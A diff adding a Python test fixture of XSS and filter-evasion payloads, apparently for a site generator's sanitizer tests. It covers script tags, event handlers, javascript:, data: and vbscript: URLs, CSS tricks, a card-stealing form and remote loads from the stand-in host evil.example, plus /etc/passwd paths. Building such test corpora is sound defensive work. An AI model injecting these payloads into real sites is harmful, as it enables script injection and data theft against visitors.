@@ -1,0 +1,230 @@
+"""A corpus of attack strings, as stories from many hands might carry them.
+
+Every payload that could run calls one of the functions the browser test
+hooks (alert, confirm, prompt, print or xss), and every payload that could
+fetch something names a host other than the test server (evil.example), so a
+payload that got through is seen either way. Sources: well-known filter
+evasion patterns, written out here for this project.
+"""
+
+from __future__ import annotations
+
+# Markdown and raw HTML for story bodies.
+BODY_PAYLOADS: list[str] = [
+    # Script elements, plain and disguised.
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(2)</SCRIPT>",
+    "<ScRiPt>confirm(3)</sCrIpT>",
+    "<script src=https://evil.example/x.js></script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>/*</script><script>*/alert(4)</script>",
+    "<scr<script>ipt>alert(5)</scr</script>ipt>",
+    "<script\x20type=\"text/javascript\">alert(6)</script>",
+    "<script type=module>import 'https://evil.example/m.js'</script>",
+    "<<script>alert(7);//<</script>",
+    "</p><script>alert(8)</script><p>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(9)>\"></noscript>",
+    "<textarea><script>alert(10)</script></textarea>",
+    "<title><script>alert(11)</script></title>",
+    "<xmp><script>alert(12)</script></xmp>",
+    "<template><script>alert(13)</script></template>",
+    # Event handlers.
+    "<img src=x onerror=alert(14)>",
+    "<img src=x ONERROR=alert(15)>",
+    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(16)\">",
+    "<img/src=x/onerror=alert(17)>",
+    "<img src=x onerror\x0c=alert(18)>",
+    "<body onload=alert(19)>",
+    "<svg onload=alert(20)>",
+    "<svg/onload=alert(21)>",
+    "<div onmouseover=\"alert(22)\">hover me</div>",
+    "<p onclick=alert(23)>click</p>",
+    "<details open ontoggle=alert(24)><summary>x</summary></details>",
+    "<input autofocus onfocus=alert(25)>",
+    "<select autofocus onfocus=alert(26)></select>",
+    "<video><source onerror=alert(27)></video>",
+    "<audio src=x onerror=alert(28)>",
+    "<marquee onstart=alert(29)>x</marquee>",
+    "<a href=\"#\" onfocus=alert(30) autofocus>x</a>",
+    "<span style=\"animation-name:x\" onanimationstart=alert(31)>x</span>",
+    "<img src=x onerror=xss(32)>",
+    "<table background=\"javascript:alert(33)\"><tr><td>x</td></tr></table>",
+    "<p title=\"x\" onpointerover=alert(34)>x</p>",
+    # javascript:, data: and vbscript: URLs in Markdown.
+    "[click](javascript:alert(35))",
+    "[click](JaVaScRiPt:alert(36))",
+    "[click](javascript&#58;alert(37))",
+    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(38))",
+    "[click](<javascript:alert(39)>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg0MCk8L3NjcmlwdD4=)",
+    "[click](vbscript:msgbox(41))",
+    "[click][ref]\n\n[ref]: javascript:alert(42)",
+    "<javascript:alert(43)>",
+    "![x](javascript:alert(44))",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNDUpPjwvc3ZnPg==)",
+    "![x](https://evil.example/pixel.gif)",
+    "![x](//evil.example/pixel.gif)",
+    "![x](\\\\\\\\evil.example/pixel.gif)",
+    "[x](java\nscript:alert(46))",
+    "[x](  javascript:alert(47)  )",
+    "[x](javascript:alert(48) \"title\")",
+    # The same in raw HTML.
+    "<a href=\"javascript:alert(49)\">x</a>",
+    "<a href=\"jav&#x09;ascript:alert(50)\">x</a>",
+    "<a href=\"jav&#x0A;ascript:alert(51)\">x</a>",
+    "<a href=\"&#x6A;avascript:alert(52)\">x</a>",
+    "<a href=\" &#14; javascript:alert(53)\">x</a>",
+    "<a href=\"\x01javascript:alert(54)\">x</a>",
+    "<a href=\"javascript&colon;alert(55)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(56)</script>\">x</a>",
+    "<a href=\"vbscript:msgbox(57)\">x</a>",
+    "<a href=\"VBScript:msgbox(58)\">x</a>",
+    "<img src=\"javascript:alert(59)\">",
+    "<img src=\"https://evil.example/beacon.gif\">",
+    "<img src=\"/\\evil.example/beacon.gif\">",
+    "<img src=\"/&#9;/evil.example/beacon.gif\">",
+    "<img src=\"\x01//evil.example/beacon.gif\">",
+    "<img src=\" //evil.example/beacon.gif\">",
+    "<img srcset=\"https://evil.example/a.png 1x\">",
+    "<img src=x dynsrc=\"javascript:alert(60)\" lowsrc=\"javascript:alert(61)\">",
+    "<a href=x ping=\"https://evil.example/ping\">x</a>",
+    # SVG and MathML.
+    "<svg><script>alert(62)</script></svg>",
+    "<svg><script href=\"https://evil.example/x.js\"/></svg>",
+    "<svg><a xlink:href=\"javascript:alert(63)\"><text y=\"20\">x</text></a></svg>",
+    "<svg><animate onbegin=alert(64) attributeName=x dur=1s>",
+    "<svg><set attributeName=\"onload\" to=\"alert(65)\"/></svg>",
+    "<svg><foreignObject><iframe src=\"javascript:alert(66)\"></iframe></foreignObject></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(67)'/></svg>#x\"/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(68)></style></mglyph></table></mtext></math>",
+    "<math href=\"javascript:alert(69)\">x</math>",
+    # CSS.
+    "<style>body{background:url(https://evil.example/bg.png)}</style>",
+    "<div style=\"background:url(javascript:alert(70))\">x</div>",
+    "<div style=\"width:expression(alert(71))\">x</div>",
+    "<p style=\"behavior:url(https://evil.example/x.htc)\">x</p>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    # Frames, objects and embeds.
+    "<iframe src=\"javascript:alert(72)\"></iframe>",
+    "<iframe src=\"https://evil.example/\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(73)</script>\"></iframe>",
+    "<object data=\"javascript:alert(74)\"></object>",
+    "<embed src=\"https://evil.example/x.swf\">",
+    "<frameset><frame src=\"javascript:alert(75)\"></frameset>",
+    # Forms.
+    "<form action=\"https://evil.example/steal\"><input name=card><button>Donate</button></form>",
+    "<form><button formaction=\"javascript:alert(76)\">Go</button></form>",
+    "<input type=image src=\"https://evil.example/x.png\">",
+    "<isindex action=\"javascript:alert(77)\" type=image>",
+    # Document-level tags.
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(78)\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+    "<base href=\"https://evil.example/\">",
+    "<base href=\"javascript:alert(79)//\">",
+    "<link rel=prefetch href=https://evil.example/prefetch>",
+    "<link rel=import href=https://evil.example/x.html>",
+    # Comments, CDATA and parser confusion.
+    "<!--<img src=x onerror=alert(80)>-->",
+    "<!--><img src=x onerror=alert(81)>-->",
+    "<![CDATA[<script>alert(82)</script>]]>",
+    "<a title=\"\"><img src=x onerror=alert(83)>\">x</a>",
+    "<a href=\"x\" title='x'onmouseover=alert(84)>x</a>",
+    "<div>`<img src=x onerror=alert(85)>`</div>",
+    "```html\n<script>alert(86)</script>\n```",
+    "`<script>alert(87)</script>`",
+    # Markdown extension syntax that carries attributes.
+    "A paragraph\n{: onclick=\"alert(88)\" style=\"color:red\" }",
+    "*[HTML]: <img src=x onerror=alert(89)>\n\nHTML here",
+    "Footnote[^1]\n\n[^1]: <script>alert(90)</script>",
+    "<div markdown=\"1\" onclick=\"alert(91)\">*x*</div>",
+]
+
+# Plain strings for every front-matter field and site.yaml value. They are
+# text, not Markdown: templates must escape them, never interpret them.
+FIELD_PAYLOADS: list[str] = [
+    "<script>alert(101)</script>",
+    "</title><script>alert(102)</script>",
+    "\"><script>alert(103)</script>",
+    "'><script>alert(104)</script>",
+    "\"><img src=x onerror=alert(105)>",
+    "' onmouseover='alert(106)",
+    "\" onfocus=\"alert(107)\" autofocus=\"",
+    "</script><script>alert(108)</script>",
+    "<!--<script>alert(109)//-->",
+    "]]><script>alert(110)</script>",
+    "</textarea><script>alert(111)</script>",
+    "<svg onload=alert(112)>",
+    "<iframe src=javascript:alert(113)>",
+    "javascript:alert(114)",
+    "data:text/html,<script>alert(115)</script>",
+    "vbscript:msgbox(116)",
+    "&lt;script&gt;alert(117)&lt;/script&gt;",
+    "&#60;script&#62;alert(118)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(119)\\u003c/script\\u003e",
+    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %}",
+    "${alert(120)}",
+    "<style>*{background:url(https://evil.example/f.png)}</style>",
+    "expression(alert(121))",
+    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><button>Give</button></form>",
+    "<a href=\"javascript:alert(122)\">link</a>",
+    "<img src=https://evil.example/pixel.gif>",
+    "\u202e<script>alert(123)</script>",
+    "\u0000<script>alert(124)</script>".replace("\u0000", ""),
+    "<ScRiPt>alert(125)</sCrIpT>",
+    "<scr<script>ipt>alert(126)</script>",
+    "x\" style=\"background:url(https://evil.example/s.png)",
+    "<math><a xlink:href=javascript:alert(127)>x</a></math>",
+    "<details open ontoggle=alert(128)>",
+    "<object data=https://evil.example/x>",
+    "%3Cscript%3Ealert(129)%3C%2Fscript%3E",
+    "<<SCRIPT>alert(130);//<</SCRIPT>",
+    "<body onload=alert(131)>",
+    "'';!--\"<XSS>=&{()}",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<embed src=javascript:alert(132)>",
+]
+
+# Donation links that are not http(s): each must be a content error.
+BAD_DONATE_URLS: list[str] = [
+    "javascript:alert(201)",
+    "JavaScript:alert(202)",
+    " javascript:alert(203)",
+    "java\tscript:alert(204)",
+    "&#106;avascript:alert(205)",
+    "data:text/html,<script>alert(206)</script>",
+    "vbscript:msgbox(207)",
+    "file:///etc/passwd",
+    "ftp://evil.example/",
+    "mailto:someone@evil.example",
+    "//evil.example/donate",
+    "/donate",
+    "https:alert(208)",
+    "https://",
+    "https://evil.example/\u0000x",
+]
+
+# site.yaml values (the settings writer is trusted less than the theme).
+SITE_PAYLOADS: dict[str, str] = {
+    "title": "<script>alert(301)</script> Gazette",
+    "description": "\"><img src=x onerror=alert(302)> appeals",
+    "publisher_name": "</title><svg onload=alert(303)>",
+    "charity_name": "<iframe src=javascript:alert(304)></iframe> Fund",
+    "charity_number": "'><script>alert(305)</script>",
+}
+
+# Logo paths that every page would load from another host: each is an error.
+BAD_LOGOS: list[str] = [
+    "\\evil.example/logo.png",  # read by browsers as //evil.example/logo.png
+    "/\\evil.example/logo.png",
+    "//evil.example/logo.png",
+    "https://evil.example/logo.png",
+    "javascript:alert(306)",
+    "data:image/svg+xml,<svg onload=alert(307)>",
+    "/\t/evil.example/logo.png",
+    "../../etc/passwd",
+]
+
+ALL_PAYLOADS = BODY_PAYLOADS + FIELD_PAYLOADS + BAD_DONATE_URLS + list(SITE_PAYLOADS.values()) + BAD_LOGOS
